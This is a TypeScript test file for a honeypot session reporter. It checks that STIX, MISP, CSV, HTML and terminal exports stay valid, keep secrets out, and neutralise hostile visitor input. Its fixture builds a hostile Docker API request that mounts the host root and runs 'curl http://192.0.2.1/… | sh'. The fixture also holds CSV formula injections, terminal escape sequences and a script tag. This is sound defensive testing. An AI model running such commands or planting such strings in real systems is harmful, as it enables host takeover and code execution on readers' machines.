import assert from "node:assert/strict";
import { existsSync, readdirSync, readFileSync } from "node:fs";
import { dirname, join, relative } from "node:path";
import { test } from "node:test";
import { fileURLToPath } from "node:url";
import { Ajv2020 } from "ajv/dist/2020.js";
import addFormats from "ajv-formats";
import { reportSession, visitOfRequests } from "../src/decoy/index.ts";
import {
  noColours,
  sessionsDocument,
  sessionsJsonSchema,
  sessionsToCsv,
  sessionsToDocument,
  sessionsToHtml,
  sessionsToMisp,
  sessionsToStix,
  sessionsToText,
} from "../src/report/index.ts";
import { sessionSamples, visitOf } from "./support/decoy-sessions.ts";

const SESSIONS = sessionSamples().map((sample) => reportSession(visitOf(sample)));
const DOCUMENT = sessionsToDocument(SESSIONS, "0.0.0", "en");
const SCHEMAS = fileURLToPath(new URL("../../shared/schemas/stix-2.1/schemas/", import.meta.url));

/** What a visitor could send to the reader's terminal, browser or spreadsheet. */
const HOSTILE =
  '\u001b]0;owned\u0007\u001b[2J<script>alert(1)</script>"\'&\u202Etxt.exe\n=HYPERLINK("http://192.0.2.1")';

const hostileDocument = () => {
  const visit = visitOfRequests(
    [
      {
        method: "POST",
        path: `/v1.41/containers/create?name=${HOSTILE}`,
        headers: { "User-Agent": `=cmd|' /C calc'!A0 ${HOSTILE}`, Host: "203.0.113.5:2375" },
        body: {
          Image: `=evil/${HOSTILE}`,
          Cmd: ["sh", "-c", `chroot /mnt sh -c 'curl http://192.0.2.1/${HOSTILE} | sh'`],
          HostConfig: { Binds: ["/:/mnt"], Privileged: true },
        },
      },
    ],
    "hostile",
  );
  assert.ok(visit);
  return sessionsToDocument([reportSession(visit)], "0.0.0", "en");
};

test("the document fits its own schema, and the JSON Schema made from it", () => {
  assert.deepEqual(sessionsDocument.parse(DOCUMENT), DOCUMENT);
  const validate = new Ajv2020({ strict: false }).compile(sessionsJsonSchema() as object);
  assert.ok(validate(JSON.parse(JSON.stringify(DOCUMENT))), JSON.stringify(validate.errors));
});

test("a STIX bundle is valid against the schemas of STIX 2.1", {
  skip: !existsSync(SCHEMAS) && "needs ../shared",
}, () => {
  const validate = stixValidator();
  for (const document of [DOCUMENT, hostileDocument()]) {
    const bundle = JSON.parse(sessionsToStix(document));
    for (const object of bundle.objects) {
      const one = validate.of(object.type);
      assert.ok(one(object), `${object.id}: ${JSON.stringify(one.errors?.slice(0, 3))}`);
    }
    assert.ok(validate.bundle(bundle), JSON.stringify(validate.bundle.errors?.slice(0, 3)));
    const ids = new Set(bundle.objects.map(({ id }: { id: string }) => id));
    assert.equal(ids.size, bundle.objects.length);
    for (const object of bundle.objects) {
      for (const reference of [object.source_ref, object.target_ref, ...(object.object_refs ?? [])]) {
        assert.ok(reference === undefined || ids.has(reference), `${reference} stands nowhere`);
      }
    }
  }
});

test("the same session gives the same STIX ids in every export", () => {
  assert.equal(sessionsToStix(DOCUMENT), sessionsToStix(DOCUMENT));
});

test("secrets and things of innocent places are no STIX indicators and no MISP detections", () => {
  const leak = sessionsToDocument(
    SESSIONS.filter(({ id }) => id === "a04-teamtnt-registryauth"),
    "0.0.0",
    "en",
  );
  const patterns = JSON.parse(sessionsToStix(leak)).objects.flatMap(
    ({ pattern }: { pattern?: string }) => pattern ?? [],
  );
  assert.ok(!patterns.join().includes("not-a-real-password"));
  assert.ok(!sessionsToMisp(leak).includes("not-a-real-password"));
  assert.ok(
    !sessionsToHtml(leak, "en")
      .replace(/<script[\s\S]*/, "")
      .includes("not-a-real-password"),
  );
  const seed = sessionsToDocument(
    SESSIONS.filter(({ id }) => id === "a01-seed-authkeys"),
    "0.0.0",
    "en",
  );
  assert.ok(!sessionsToStix(seed).includes("'%alpine%'"));
});

test("a MISP event has the fields that MISP needs", () => {
  const { response } = JSON.parse(sessionsToMisp(DOCUMENT));
  assert.equal(response.length, DOCUMENT.sessions.length);
  for (const { Event } of response) {
    assert.match(Event.uuid, /^[0-9a-f]{8}-[0-9a-f]{4}-5[0-9a-f]{3}-a[0-9a-f]{3}-[0-9a-f]{12}$/);
    assert.match(Event.date, /^\d{4}-\d\d-\d\d$/);
    for (const attribute of Event.Attribute) {
      assert.ok(attribute.type && attribute.category && attribute.value && typeof attribute.to_ids === "boolean");
    }
  }
});

for (const language of ["en", "ja"] as const) {
  test(`a page in ${language} holds no markup of a visitor, no script, and fetches nothing`, () => {
    const page = sessionsToHtml(hostileDocument(), language);
    const [body = "", data = ""] = page.split('<script type="application/json"');
    assert.ok(!/<script|<img|<iframe|javascript:|onerror/i.test(body));
    assert.ok(!/(?:src|href)="(?!#)/.test(body));
    assert.ok(!data.slice(0, data.indexOf("</script>")).includes("<"));
    assert.ok(body.includes("&lt;script&gt;"));
    for (const sign of ["\u001b", "\u202e", "\u0007"]) {
      assert.ok(!page.includes(sign), JSON.stringify(sign));
    }
  });

  test(`a terminal report in ${language} holds no control character but line ends`, () => {
    const text = sessionsToText(hostileDocument(), { language, columns: 80, paint: noColours });
    // biome-ignore lint/suspicious/noControlCharactersInRegex: it is what is looked for
    assert.ok(!/[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u202a-\u202e]/.test(text));
    assert.ok(text.includes("\\u{1b}"));
  });
}

test("no cell of a CSV begins a formula, and each row is one line", () => {
  const csv = sessionsToCsv(hostileDocument());
  for (const line of csv.trimEnd().split("\r\n")) {
    assert.match(line, /^"?(?:session|hostile)/);
    assert.ok(!/(?:^|,)"?[=+@]/.test(line), line);
  }
});

function stixValidator() {
  const ajv = new Ajv2020({ strict: false, validateFormats: true, unicodeRegExp: false });
  (addFormats as unknown as (ajv: Ajv2020) => void)(ajv);
  const byType = new Map<string, string>();
  for (const entry of readdirSync(SCHEMAS, { recursive: true, withFileTypes: true })) {
    if (entry.isFile() && entry.name.endsWith(".json")) {
      const path = join(entry.parentPath, entry.name);
      const schema = JSON.parse(readFileSync(path, "utf8"));
      const id = `https://stix.invalid/${relative(SCHEMAS, path)}`;
      ajv.addSchema({ ...schema, $id: id }, id);
      if (dirname(relative(SCHEMAS, path)) !== "common") {
        byType.set(entry.name.replace(/\.json$/, ""), id);
      }
    }
  }
  const compiled = (id: string) => {
    const validate = ajv.getSchema(id);
    assert.ok(validate, id);
    return validate;
  };
  return {
    bundle: compiled("https://stix.invalid/common/bundle.json"),
    of: (type: string) => compiled(byType.get(type) ?? type),
  };
}
